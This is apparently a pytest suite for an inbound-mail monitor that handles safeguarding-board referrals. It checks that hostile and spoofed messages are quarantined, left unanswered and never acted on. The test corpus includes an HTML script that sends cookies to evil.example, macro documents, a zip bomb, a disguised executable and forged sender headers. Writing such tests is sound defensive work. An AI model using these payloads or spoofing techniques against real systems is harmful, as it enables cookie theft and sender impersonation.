"""Hostile mail through the real monitor: each message is kept with its reason, none is
acted on, none is answered, and the monitor carries on with the good mail beside them."""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from sqlmodel import select

from panelclerk.application import status
from panelclerk.application.inbound.kept import quarantined
from panelclerk.application.inbound.router import Router
from panelclerk.mail.maildir import MaildirMailbox
from panelclerk.store.tables import ChatMessage, OutboundMessage

from .conftest import COMPLETE_FORM
from .mail import REFERRER, form_body, message, referral, zip_bytes


def _with(name: str, data: bytes, maintype="application", subtype="octet-stream") -> bytes:
    msg = message(subject="SCR referral", body="see attached")
    msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return msg.as_bytes()


def hostile() -> dict[str, tuple[bytes, str]]:
    xss = message(
        subject="SCR referral",
        body="x",
        html=(
            '<p onmouseover="steal()">Hi</p><script>fetch("https://evil.example/"+document.cookie)'
            '</script><img src="x" onerror="alert(1)"><a href="javascript:alert(2)">x</a>'
        ),
    )
    nested = "From: " + REFERRER + "\r\n"
    for depth in range(60):
        nested += f'Content-Type: multipart/mixed; boundary="b{depth}"\r\n\r\n--b{depth}\r\n'
    nested += "Content-Type: text/plain\r\n\r\nbottom"
    many_headers = (
        "From: "
        + REFERRER
        + "\r\n"
        + "X-Noise: x\r\n" * 10_000
        + "Subject: SCR referral\r\n\r\nbody"
    ).encode()
    docm = zip_bytes({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"AutoOpen"})
    return {
        "xss": (xss.as_bytes(), "HTML with active content"),
        "docm": (_with("form.docm", docm), "macro-enabled Office files"),
        "docx_macro": (_with("form.docx", docm), "contains macros"),
        "zip_bomb": (_with("papers.zip", zip_bytes({"z.txt": b"\0" * 20_000_000})), "archive bomb"),
        "huge": (_with("scan.pdf", b"%PDF" + b"0" * (30 * 1024 * 1024)), "byte limit"),
        "headers": (many_headers, "header fields"),
        "nested": (nested.encode(), "nested deeper"),
        "exe": (_with("form.pdf.exe", b"MZ\x90\x00" + b"\0" * 100), "executable"),
    }


def test_hostile_mail_is_kept_with_its_reason_and_the_good_mail_goes_on(sqlite_app, tmp_path):
    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    corpus = hostile()
    for raw, _ in corpus.values():
        box.deliver(raw)
    box.deliver(referral())
    results = Router(sqlite_app).run_once(box)
    assert len(results) == len(corpus) + 1
    assert [r.outcome for r in results].count("accepted") == 1
    reasons = [r.reason or "" for r in quarantined(sqlite_app)]
    assert len(reasons) == len(corpus)
    for name, (_, expected) in corpus.items():
        assert any(expected in reason for reason in reasons), (name, reasons)
    assert box.list_new() == []
    assert len(list((box.root / ".Quarantine" / "cur").iterdir())) == len(corpus)
    with sqlite_app.uow() as uow:  # only the good referral is answered
        sent = uow.session.exec(select(OutboundMessage)).all()
    assert [m.kind for m in sent] == ["acknowledgement"]
    assert len(status.pipeline(sqlite_app)) == 1


def test_plain_html_from_an_agency_is_read_not_quarantined(sqlite_app, tmp_path):
    msg = EmailMessage()
    msg["From"] = REFERRER
    msg["Subject"] = "SCR referral"
    msg.set_content(
        "<html><body><table><tr><td>Child's name</td><td>Jo</td></tr></table>"
        "<p style='color:red'>Please see below.</p></body></html>",
        subtype="html",
    )
    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    box.deliver(msg.as_bytes())
    [result] = Router(sqlite_app).run_once(box)
    assert result.outcome in ("incomplete", "accepted", "held")


def test_a_document_that_takes_too_long_to_read_is_quarantined_and_the_loop_goes_on(
    sqlite_app, tmp_path
):
    """The wall-clock budget per message: the document parsers run in a child process that
    is killed when a message's documents take longer than mailbox.read_seconds. Here the
    budget is set below what any PDF takes, so the referral's PDF form is never read in
    time: it is quarantined with the reason; with the usual budget the same form is read."""
    from .test_formparse import fillable_pdf

    def with_pdf() -> bytes:
        msg = message(subject="SCR referral", body="Please see the attached form.")
        pdf = fillable_pdf(dict(COMPLETE_FORM))
        msg.add_attachment(pdf, maintype="application", subtype="pdf", filename="form.pdf")
        return msg.as_bytes()

    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    hurried = sqlite_app.config.mailbox.model_copy(update={"read_seconds": 0.001})
    sqlite_app.config = sqlite_app.config.model_copy(update={"mailbox": hurried})
    box.deliver(with_pdf())
    [slow] = Router(sqlite_app).run_once(box)
    assert slow.outcome == "quarantined"
    assert "reading form.pdf took longer than 0.001 s; kept unread" in slow.detail
    usual = sqlite_app.config.mailbox.model_copy(update={"read_seconds": 20.0})
    sqlite_app.config = sqlite_app.config.model_copy(update={"mailbox": usual})
    box.deliver(with_pdf())
    [read] = Router(sqlite_app).run_once(box)
    assert (read.kind, read.outcome) == ("referral", "accepted"), read.detail
    with sqlite_app.uow() as uow:
        row = uow.referrals.row(read.reference, lock=False)
    assert row.form["incident.date"] == COMPLETE_FORM["incident.date"]


# ---- forged senders (issue "Hostile mail and forged senders, round two") ---------------

OURS = "mx.fenmarsh-lscb.example"
POLICE = "di.jones@police.fenmarsh.example"


def _authed(app) -> None:
    """The board behind a real mail server that stamps its own Authentication-Results."""
    mailbox = app.config.mailbox.model_copy(
        update={"authserv_id": OURS, "trust_mta_without_authentication": False}
    )
    app.config = app.config.model_copy(update={"mailbox": mailbox})


def _police_referral(*froms: str, results: tuple[str, ...]) -> bytes:
    from .test_rules import with_from

    msg = message(
        POLICE,
        "SCR referral",
        form_body(),
        headers=[("Authentication-Results", r) for r in results],
    )
    return with_from(*froms, msg=msg)


def spoofed_police_referrals() -> dict[str, bytes]:
    evil_passes = (f"{OURS}; dmarc=pass header.from=evil.example",)
    return {
        "dmarc=pass in envelope and HELO": _police_referral(
            POLICE,
            results=(
                f"{OURS}; spf=pass smtp.mailfrom=dmarc=pass@evil.example smtp.helo=dmarc=pass; "
                "dmarc=fail header.from=police.fenmarsh.example",
            ),
        ),
        "forged pass below ours": _police_referral(
            POLICE,
            results=(
                f"{OURS}; dmarc=fail header.from=police.fenmarsh.example",
                f"{OURS}; dmarc=pass header.from=police.fenmarsh.example",
            ),
        ),
        "DMARC passed for another domain": _police_referral(POLICE, results=evil_passes),
        "bare address then angle address": _police_referral(
            f"a@evil.example <{POLICE}>", results=evil_passes
        ),
        "address in the quoted display name": _police_referral(
            f'"a@evil.example" <{POLICE}>', results=evil_passes
        ),
        "two at signs": _police_referral(
            "a@police.fenmarsh.example@evil.example", results=evil_passes
        ),
        "two From headers": _police_referral(POLICE, "a@evil.example", results=evil_passes),
    }


def test_spoofed_police_referrals_are_quarantined_unanswered_and_the_genuine_one_accepted(
    sqlite_app, tmp_path
):
    _authed(sqlite_app)
    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    spoofs = spoofed_police_referrals()
    for raw in spoofs.values():
        box.deliver(raw)
    box.deliver(
        _police_referral(
            POLICE, results=(f"{OURS}; dmarc=pass header.from=police.fenmarsh.example",)
        )
    )
    results = Router(sqlite_app).run_once(box)
    outcomes = [r.outcome for r in results]
    assert outcomes == ["quarantined"] * len(spoofs) + ["accepted"], list(
        zip([*spoofs, "genuine"], [(r.outcome, r.detail) for r in results], strict=True)
    )
    with sqlite_app.uow() as uow:
        sent = uow.session.exec(select(OutboundMessage)).all()
    assert [(m.kind, m.recipients) for m in sent] == [("acknowledgement", [POLICE])]
    assert len(status.pipeline(sqlite_app)) == 1


# ---- referrals sent automatically: held for the Business Manager, never ignored --------

AUTOMATIC = {
    "Auto-Submitted: auto-generated": ("Auto-Submitted", "auto-generated"),
    "Precedence: list": ("Precedence", "list"),
    "Precedence: bulk": ("Precedence", "bulk"),
    "Precedence: junk": ("Precedence", "junk"),
    "copied loop header": ("X-Panelclerk-Loop", "0123456789abcdef"),
}


def _business_manager_told(app) -> list[str]:
    with app.uow() as uow:
        return [m.text or "" for m in uow.session.exec(select(ChatMessage)) if m.target == "bm"]


@pytest.mark.parametrize("header", AUTOMATIC.values(), ids=AUTOMATIC.keys())
def test_a_complete_referral_sent_automatically_is_held_the_business_manager_told_nothing_sent(
    sqlite_app, tmp_path, header
):
    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    box.deliver(referral(headers=[header]))
    [result] = Router(sqlite_app).run_once(box)
    assert (result.kind, result.outcome) == ("automatic_referral", "held"), result.detail
    [row] = quarantined(sqlite_app)  # waiting for a person, with its reason
    assert row.outcome == "held" and "sent automatically" in (row.reason or "")
    [told] = _business_manager_told(sqlite_app)
    assert f"number {row.id}" in told and "held for you" in told
    assert "Zebedee" not in told  # the child's name stays in the message, not in chat
    with sqlite_app.uow() as uow:
        assert uow.session.exec(select(OutboundMessage)).all() == []  # RFC 3834: no answer
    assert status.pipeline(sqlite_app) == []  # nothing acted on until released
    assert list(box.list_new()) == []


def test_list_mail_about_a_referral_is_held_and_the_business_manager_told_its_code(
    sqlite_app, tmp_path
):
    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    box.deliver(
        message(
            subject="[SCR-2026-001] chronology",
            body="Please see the chronology for SCR-2026-001.",
            headers=[("Precedence", "list")],
        ).as_bytes()
    )
    [result] = Router(sqlite_app).run_once(box)
    assert (result.outcome, result.reference) == ("held", "SCR-2026-001")
    [told] = _business_manager_told(sqlite_app)
    assert told.startswith("A message about SCR-2026-001 is held for you")
    with sqlite_app.uow() as uow:
        assert uow.session.exec(select(OutboundMessage)).all() == []


def test_our_own_mail_coming_back_and_true_auto_replies_stay_ignored(sqlite_app, tmp_path):
    from panelclerk.mail.loop import loop_marker

    box = MaildirMailbox(tmp_path / "mb", tmp_path / "ob")
    domain = sqlite_app.config.board.mailbox.rpartition("@")[2]
    ours = [
        ("X-Panelclerk-Loop", loop_marker(sqlite_app.config)),
        ("Auto-Submitted", "auto-generated"),
    ]
    box.deliver(referral(message_id=f"<ours1@{domain}>", headers=ours))
    away = [("Auto-Submitted", "auto-replied")]
    box.deliver(
        message(
            subject="Automatic reply: Re: [SCR-2026-001]", body=form_body(), headers=away
        ).as_bytes()
    )
    box.deliver(
        message(
            subject="Undeliverable: SCR referral", body=form_body(), headers=[("Return-Path", "<>")]
        ).as_bytes()
    )
    results = Router(sqlite_app).run_once(box)
    assert [(r.kind, r.outcome) for r in results] == [
        ("own_mail", "ignored"),
        ("auto_reply", "ignored"),
        ("bounce", "ignored"),
    ]
    assert _business_manager_told(sqlite_app) == []
    with sqlite_app.uow() as uow:
        assert uow.session.exec(select(OutboundMessage)).all() == []
